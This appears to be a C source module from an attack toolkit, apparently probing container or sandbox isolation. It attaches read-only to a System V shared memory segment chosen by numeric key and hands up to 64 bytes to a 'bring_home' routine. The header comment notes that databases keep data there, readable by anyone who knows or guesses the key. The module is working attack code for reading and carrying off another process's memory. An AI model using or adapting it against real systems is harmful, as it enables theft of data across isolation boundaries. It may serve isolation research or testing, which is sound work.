/*
 * System V's shared memory is found by a number, not by a path: sysvipc(7). No root file system hides it; what databases keep there is read
 * by whoever knows the number, or tries them.
 */
#include "attack.h"
#include <sys/shm.h>

/* argv: the segment's key, where to put what was found. */
void shared_memory(char **argv)
{
	const int segment = must(shmget(strtoul(argv[0], NULL, 0), 0, 0), "find a piece of shared memory");
	const char *memory = shmat(segment, NULL, SHM_RDONLY);
	must((intptr_t)memory, "look into it");
	bring_home(argv[1], memory, strnlen(memory, 64));
}
